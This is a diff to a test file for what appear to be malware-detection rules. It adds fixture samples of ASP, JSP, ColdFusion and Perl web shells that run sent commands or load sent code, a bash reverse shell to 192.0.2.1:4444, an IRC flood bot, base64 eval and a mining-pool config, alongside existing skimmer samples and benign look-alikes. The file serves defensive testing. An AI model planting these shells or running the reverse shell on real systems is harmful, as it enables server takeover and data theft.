@@ -27,6 +27,36 @@ FITS = {
         b"?><textarea name=emaillist></textarea>"
     ),
     "php_database_page": b"<?php mysql_connect($_POST['host'], $u, $p); mysql_query($q); ?><form></form>",
+    "asp_runs_what_it_is_sent": b'<%eval request("x")%>',
+    "asp_command_page": (
+        b'<% Set s = Server.CreateObject("WSCRIPT.SHELL")\nSet o = s.Exec("cmd /c " & Request.Form("c")) %>'
+    ),
+    "asp_loads_hidden_code": (
+        b"<%@ Page Language='C#' %><% System.Reflection.Assembly.Load(Request.BinaryRead(9)).CreateInstance('U'); %>"
+    ),
+    "asp_file_page": (
+        b'<% Set f = CreateObject("Scripting.FileSystemObject")\nFor Each d In f.Drives\nNext\n'
+        b'f.DeleteFile(Request("p"))\nResponse.Write Request.ServerVariables("SERVER_SOFTWARE") %>'
+    ),
+    "asp_encoded": b"<%@ Language = VBScript.Encode %><%#@~^DgAAAA==inert%>",
+    "jsp_command_page": b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
+    "jsp_loads_hidden_code": (
+        b"<%! class U extends ClassLoader { } %><% byte[] b = "
+        b'Base64.getDecoder().decode(request.getParameter("c")); %>'
+    ),
+    "jsp_file_page": b'<% String p = request.getParameter("p"); new FileOutputStream(path + p).write(b); %>',
+    "coldfusion_command_page": (
+        b'<cfparam name="form.c"><cfexecute name="cmd.exe" arguments="/c #form.c#"></cfexecute>'
+    ),
+    "program_command_page": (
+        b"#!/usr/bin/perl\nprint \"Content-type: text/html\\n\\n\";\n$c = $ENV{'QUERY_STRING'};\nprint `$c 2>&1`;\n"
+    ),
+    "program_back_door": b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
+    "program_flood": (
+        b"#!/usr/bin/perl\nuse IO::Socket;\nprint $s 'NICK a'; print $s 'JOIN #b'; if (/PRIVMSG/) { &udpflood; }\n"
+    ),
+    "program_runs_hidden_code": b"#!/usr/bin/perl\nuse MIME::Base64;\neval(decode_base64('aW5lcnQ='));\n",
+    "miner_of_coins": b'{"algo": "rx/0", "url": "stratum+tcp://pool.example.com:3333", "pass": "x"}',
     "skimmer_of_payment_data": (
         b"document.addEventListener('submit', function () { var n = document.querySelector('[name=cc_number]').value;"
         b"new Image().src = atob('aHR0cHM6Ly9leGFtcGxlLmNvbS8=') + n; });"
@@ -54,12 +84,25 @@ def test_rule_fits_what_its_family_does(rule: str, content: bytes) -> None:
 
 
 HARMLESS = {
+    "a page of asp": b'<% Response.Write Server.HTMLEncode(Request("name")) %>',
+    "an upload of asp.net": b"<% if (FileUpload1.HasFile) FileUpload1.SaveAs(Request.Form['name']); %>",
+    "a page of jsp": b'<% String n = request.getParameter("n"); out.print(n); %>',
+    "a program for the shell": b'#!/bin/sh\neval "$1"\nexec sh -c "$2"\n',
+    "a form by cgi": (
+        b'#!/usr/bin/perl\nuse CGI;\nprint "Content-type: text/html\\n\\n";\nmy $n = '
+        b"param('n');\nprint escape($n);\n"
+    ),
+    "a client of a chat": (
+        b"#!/usr/bin/python\nimport socket\ns = socket.socket()\ns.send('NICK a')\ns.send('JOIN #b')\n"
+    ),
     "a contact form": b"<?php mail($to, $_POST['subject'], $_POST['text'], 'Reply-To: x'); ?><textarea></textarea>",
     "a system information class": b"<?php\nclass Info {\n" + CONTROL_PAGE.removeprefix(b"<?php") + b"}",
     "a payment form's own script": (
         b"form.addEventListener('submit', function () { fetch('/pay', {body: form.cc_number.value}); });"
     ),
-    "a loader of a plain address": b"var s = document.createElement('script'); s.src = 'https://www.example.com/a.js';",
+    "a loader of a plain address": (
+        b"var s = document.createElement('script'); s.src = 'https://www.example.com/a.js';"
+    ),
     "a link for screen readers": b'<a style="left:-9999px" href="#content">Skip to content</a>',
 }
 
